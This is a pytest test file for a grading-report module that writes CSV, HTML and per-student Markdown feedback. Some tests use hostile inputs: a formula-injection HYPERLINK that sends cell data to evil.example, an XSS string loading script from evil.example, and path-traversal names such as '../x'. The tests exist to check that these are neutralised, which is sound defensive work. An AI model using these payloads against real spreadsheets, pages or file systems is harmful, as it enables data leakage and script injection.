"""The grade folder (xai_tutorial.grading.report): exact CSV cells, guarded against spreadsheet
formulas; escaped, self-contained HTML; safe and unique feedback file names; written all or
nothing, and never over a folder that holds anything but earlier grades."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from xai_tutorial.grading import report
from xai_tutorial.grading.report import (
    STATUS_STYLE,
    Column,
    Mark,
    ReportError,
    StudentReport,
    feedback_names,
    write_report,
)

COLUMNS = [Column("01", "top3_by_hand", "Top 3 by hand"),
           Column("01", "inception_preprocessing", "Inception preprocessing"),
           Column("02", "second_class", "Second class map")]
KEYS = [c.key for c in COLUMNS]


def marks(*specs: tuple[str, str, str]) -> dict[str, Mark]:
    return {key: Mark(*spec) for key, spec in zip(KEYS, specs, strict=True)}


def class_of_three() -> list[StudentReport]:
    return [
        StudentReport("Ada", marks(("correct", "", "✓ Top 3 by hand: correct!"),
                                   ("correct", "", "✓ Inception preprocessing: correct!"),
                                   ("not yet", "the map is of the first class",
                                    "✗ Second class map: the map is of the first class")),
                      sources=["Ada.ipynb"]),
        StudentReport("Bo Li", marks(("not yet", "the 2nd class is wrong",
                                      "✗ Top 3 by hand: the 2nd class is wrong"),
                                     ("not attempted", "",
                                      "○ Inception preprocessing: not attempted"),
                                     ("not attempted", "", "")),
                      notes=["lesson 02 not handed in"], sources=["Bo Li/01.ipynb"]),
        StudentReport("Čapek", marks(("error", "error: wall-clock limit (60 s)", ""),
                                     ("error", "error: wall-clock limit (60 s)", ""),
                                     ("correct", "", "✓ Second class map: correct!")),
                      errors=["Traceback (most recent call last):\n  ...\nKeyboardInterrupt"]),
    ]


def read_csv(folder: Path) -> list[list[str]]:
    text = (folder / "grades.csv").read_bytes().decode("utf-8")  # no newline translation
    return list(csv.reader(io.StringIO(text, newline="")))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


def test_the_csv_holds_exactly_the_statuses_totals_notes_and_reasons(tmp_path):
    write_report(tmp_path / "out", COLUMNS, class_of_three(), summary=["limits: none"])
    assert read_csv(tmp_path / "out") == [
        ["student", "top3_by_hand", "inception_preprocessing", "second_class", "correct",
         "total", "notes", "top3_by_hand reason", "inception_preprocessing reason",
         "second_class reason"],
        ["Ada", "correct", "correct", "not yet", "2", "3", "", "", "",
         "the map is of the first class"],
        # Bo Li handed in lesson 01 only: his total is its 2 exercises, not the table's 3.
        ["Bo Li", "not yet", "not attempted", "not attempted", "0", "2",
         "lesson 02 not handed in", "the 2nd class is wrong", "", ""],
        ["Čapek", "error", "error", "correct", "1", "3",
         "1 error(s) stopped cells (see the feedback)",
         "error: wall-clock limit (60 s)", "error: wall-clock limit (60 s)", ""],
    ]
    assert (tmp_path / "out" / "grades.csv").read_bytes().decode("utf-8").startswith("student,")


def test_the_output_folder_holds_exactly_the_three_entries(tmp_path):
    write_report(tmp_path / "out", COLUMNS, class_of_three(), summary=[])
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "feedback", "grades.csv", "grades.html"]
    assert sorted(p.name for p in (tmp_path / "out" / "feedback").iterdir()) == [
        "Ada.md", "Bo Li.md", "Čapek.md"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(tmp_path, start):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    students = [StudentReport(hostile, marks(("not yet", hostile, ""), ("correct", "", ""),
                                             ("correct", "", "")), notes=[hostile])]
    write_report(tmp_path / "out", COLUMNS, students, summary=[])
    row = read_csv(tmp_path / "out")[1]
    assert row[0] == row[6] == row[7] == "'" + hostile
    assert row[1:6] == ["not yet", "correct", "correct", "2", "3"]


def test_cells_that_only_contain_formula_characters_later_are_left_alone(tmp_path):
    students = [StudentReport("a=b", marks(("not yet", "x = -1, not 1", ""),
                                           ("correct", "", ""), ("correct", "", "")))]
    write_report(tmp_path / "out", COLUMNS, students, summary=[])
    row = read_csv(tmp_path / "out")[1]
    assert (row[0], row[7]) == ("a=b", "x = -1, not 1")


def test_feedback_lists_the_lines_per_lesson_the_notes_and_the_shortened_errors(tmp_path):
    write_report(tmp_path / "out", COLUMNS, class_of_three(), summary=[])
    feedback = tmp_path / "out" / "feedback"
    assert (feedback / "Ada.md").read_text(encoding="utf-8") == "\n".join([
        "# Feedback: Ada", "", "2 of 3 exercises correct.", "", "Graded: Ada.ipynb", "",
        "## Lesson 01", "", "- ✓ Top 3 by hand: correct!",
        "- ✓ Inception preprocessing: correct!", "",
        "## Lesson 02", "", "- ✗ Second class map: the map is of the first class", ""])
    bo = (feedback / "Bo Li.md").read_text(encoding="utf-8")
    assert "## Lesson 02" not in bo  # all not attempted with no line: not handed in
    assert "- ○ Inception preprocessing: not attempted" in bo
    assert "## Notes\n\n- lesson 02 not handed in\n" in bo
    capek = (feedback / "Čapek.md").read_text(encoding="utf-8")
    assert "- Top 3 by hand: ⚠ error: wall-clock limit (60 s)\n" in capek
    assert ("## Errors that stopped a cell\n\n```\nTraceback (most recent call last):\n  ...\n"
            "KeyboardInterrupt\n```\n") in capek


def test_an_error_holding_backticks_stays_inside_its_code_block(tmp_path):
    students = [StudentReport("x", marks(*[("error", "error: it", "")] * 3),
                              errors=["```\n# Full marks\n````"])]
    write_report(tmp_path / "out", COLUMNS, students, summary=[])
    text = (tmp_path / "out" / "feedback" / "x.md").read_text(encoding="utf-8")
    assert "`````\n```\n# Full marks\n````\n`````\n" in text


HOSTILE_NAMES = ["../x", ".hidden", "a/b", "a\\b", "..", "", "nul\x00and\x1bcontrol\nchars",
                 "Ann", "ann", "x" * 300, "x" * 300 + "y", " .. /etc/passwd", "C:evil", "é",
                 "e\u0301"]


def test_hostile_names_become_safe_unique_file_names():
    names = feedback_names(HOSTILE_NAMES)
    assert names[:9] == ["_x", "hidden", "a_b", "a_b-2", "student", "student-2",
                         "nul and control chars", "Ann", "ann-2"]
    assert names[9] == "x" * 100 and names[10] == "x" * 98 + "-2"
    assert names[13:] == ["é", "é-2"]  # the same name once normalized
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 100 and not name.startswith(".")
        assert not re.search(r"[/\\\x00-\x1f\x7f]", name), name


def test_hostile_names_write_only_inside_the_feedback_folder(tmp_path):
    students = [StudentReport(name, marks(*[("not attempted", "", "")] * 3))
                for name in HOSTILE_NAMES]
    write_report(tmp_path / "grades" / "out", COLUMNS, students, summary=[])
    assert [p.name for p in tmp_path.iterdir()] == ["grades"]
    assert [p.name for p in (tmp_path / "grades").iterdir()] == ["out"]
    files = sorted((tmp_path / "grades" / "out" / "feedback").iterdir())
    assert len(files) == len(HOSTILE_NAMES) and all(f.suffix == ".md" for f in files)
    assert read_csv(tmp_path / "grades" / "out")[1][0] == "../x"  # the CSV keeps the real name


def test_a_previous_grade_folder_is_replaced_entirely(tmp_path):
    out = tmp_path / "out"
    write_report(out, COLUMNS, class_of_three(), summary=[])
    write_report(out, COLUMNS, class_of_three()[:1], summary=[])
    assert [p.name for p in (out / "feedback").iterdir()] == ["Ada.md"]
    assert len(read_csv(out)) == 2
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_an_empty_folder_is_filled(tmp_path):
    (tmp_path / "out").mkdir()
    write_report(tmp_path / "out", COLUMNS, class_of_three(), summary=[])
    assert len(read_csv(tmp_path / "out")) == 4


def test_a_failure_while_writing_leaves_the_previous_grades_and_no_temporary_folder(
        tmp_path, monkeypatch):
    out = tmp_path / "out"
    write_report(out, COLUMNS, class_of_three(), summary=[])
    before = snapshot(out)
    calls = []

    def fails_on_the_second(columns, student):
        calls.append(student.name)
        if len(calls) == 2:
            raise OSError("disk full")
        return "written"

    monkeypatch.setattr(report, "feedback_md", fails_on_the_second)
    with pytest.raises(OSError, match="disk full"):
        write_report(out, COLUMNS, class_of_three()[::-1], summary=["new run"])
    assert snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_a_failure_moving_the_new_grades_in_puts_the_previous_ones_back(tmp_path, monkeypatch):
    out = tmp_path / "out"
    write_report(out, COLUMNS, class_of_three(), summary=[])
    before = snapshot(out)
    rename = os.rename

    def refuses_the_new_folder(source, target):
        if Path(source).name.startswith(".out.new-"):
            raise OSError("interrupted")
        rename(source, target)

    monkeypatch.setattr(report.os, "rename", refuses_the_new_folder)
    with pytest.raises(ReportError, match="could not move the grades"):
        write_report(out, COLUMNS, class_of_three()[:1], summary=[])
    assert snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


@pytest.mark.parametrize("make", [
    lambda out: (out / "thesis.tex").write_text("years of work"),
    lambda out: (out / "grades.csv").mkdir(),
    lambda out: ((out / "feedback").mkdir(), (out / "feedback" / "photo.jpg").write_text("x")),
    lambda out: ((out / "feedback").mkdir(), (out / "feedback" / "sub.md").mkdir()),
    lambda out: (out / "feedback").write_text("a file"),
])
def test_a_folder_with_other_content_is_refused_and_left_as_it_was(tmp_path, make):
    out = tmp_path / "out"
    out.mkdir()
    make(out)
    before = snapshot(out)
    with pytest.raises(ReportError, match=re.escape(str(out))):
        write_report(out, COLUMNS, class_of_three(), summary=[])
    assert snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_a_file_or_a_link_in_place_of_the_folder_is_refused(tmp_path):
    (tmp_path / "file").write_text("keep")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    for name in ("file", "link"):
        with pytest.raises(ReportError, match=name):
            write_report(tmp_path / name, COLUMNS, class_of_three(), summary=[])
    assert (tmp_path / "file").read_text() == "keep"
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere", "file", "link"]


def test_marks_that_do_not_fit_the_columns_are_refused_before_anything_is_written(tmp_path):
    missing = StudentReport("x", {"top3_by_hand": Mark("correct", "", "")})
    unknown = StudentReport("y", marks(("passed", "", ""), ("correct", "", ""),
                                       ("correct", "", "")))
    for student, message in ((missing, "missing"), (unknown, "unknown status")):
        with pytest.raises(ReportError, match=message):
            write_report(tmp_path / "out", COLUMNS, [student], summary=[])
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------------- HTML


class Page(HTMLParser):
    """What a browser would build from the page: elements with attributes, text per element."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.stack: list[str] = []
        self.text: dict[str, list[str]] = {}
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "input", "link", "img"):
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        for tag in set(self.stack):
            self.text.setdefault(tag, []).append(data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]

    def joined(self, tag: str) -> str:
        return "".join(self.text.get(tag, []))


def html_of(tmp_path: Path, students: list[StudentReport], summary=()) -> str:
    write_report(tmp_path / "out", COLUMNS, students, summary=list(summary))
    return (tmp_path / "out" / "grades.html").read_text(encoding="utf-8")


def test_the_page_shows_the_summary_the_run_lines_and_the_table(tmp_path):
    text = html_of(tmp_path, class_of_three(), ["memory: 2 GB per kernel",
                                                "network: not enforced (no user namespaces)"])
    page = Page(text)
    assert page.all("html")[0]["lang"] == "en"
    assert page.joined("h1") == "Grades" and "click a column heading" in page.joined("caption")
    # Counted among those who handed the lesson in (Bo Li did not hand in lesson 02).
    assert ("3 students, 3 exercises. Correct per exercise: Top 3 by hand 1 of 3, "
            "Inception preprocessing 1 of 3, Second class map 1 of 2") in page.joined("p")
    assert "network: not enforced (no user namespaces)" in page.joined("ul")
    assert len(page.all("button")) == len(COLUMNS) + 3  # student, exercises, correct, notes
    assert [a["aria-sort"] for a in page.all("th") if "aria-sort" in a] == ["none"] * 6
    body = page.joined("tbody")
    for student in class_of_three():
        assert student.name in body
    assert "✓ correct" in body and "✗ not yet" in body and "⚠ error" in body
    assert "○ not attempted" in body


def test_reasons_are_readable_without_hovering(tmp_path):
    page = Page(html_of(tmp_path, class_of_three()))
    details = page.joined("details")
    assert "Second class map (02 · second_class) — ✗ not yet: the map is of the first class" \
        in details
    assert "⚠ error: wall-clock limit (60 s)" in details and "KeyboardInterrupt" in details
    assert "Note: lesson 02 not handed in" in details
    titles = [a.get("title") for a in page.all("td") if a.get("title")]
    assert "the 2nd class is wrong" in titles
    assert [a["href"] for a in page.all("a")] == ["#student-0", "#student-1", "#student-2"]
    assert [a["id"] for a in page.all("details")] == ["student-0", "student-1", "student-2"]


def test_student_text_is_escaped_and_the_page_asks_for_nothing_outside_itself(tmp_path):
    attack = '<script src="http://evil.example/x.js"></script><img src=x onerror=alert(1)>"\''
    students = [StudentReport(attack, marks((("not yet", attack, attack)), ("correct", "", ""),
                                            ("correct", "", "")),
                              notes=[attack], errors=[attack], sources=[attack])]
    text = html_of(tmp_path, students, [attack])
    assert "<script src" not in text and "<img" not in text and "evil.example/x.js\"" not in text
    page = Page(text)
    assert [tag for tag, _ in page.tags if tag in ("img", "link", "iframe", "object")] == []
    assert page.all("script") == [{}]  # one inline script, no src
    assert all(a["href"].startswith("#") for a in page.all("a"))
    assert attack in page.joined("tbody") and attack in page.joined("details")


def test_the_content_security_policy_allows_exactly_the_inline_style_and_script(tmp_path):
    text = html_of(tmp_path, class_of_three())
    policy = next(a["content"] for a in Page(text).all("meta")
                  if a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in policy

    def digest(tag: str) -> str:
        body = re.search(f"<{tag}>(.*?)</{tag}>", text, re.S).group(1)
        return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()

    assert f"style-src {digest('style')}'" in policy
    assert f"script-src {digest('script')}'" in policy


def _luminance(colour: str) -> float:
    channels = [int(colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("status", list(STATUS_STYLE))
def test_each_status_has_a_symbol_and_text_of_high_contrast(tmp_path, status):
    symbol, background, text = STATUS_STYLE[status]
    light, dark = sorted((_luminance(background), _luminance(text)), reverse=True)
    assert (light + 0.05) / (dark + 0.05) >= 7  # WCAG AAA
    assert symbol and len({s[0] for s in STATUS_STYLE.values()}) == 4
    css = html_of(tmp_path, class_of_three())
    assert f".s-{status.replace(' ', '-')}{{background:{background};color:{text}}}" in css
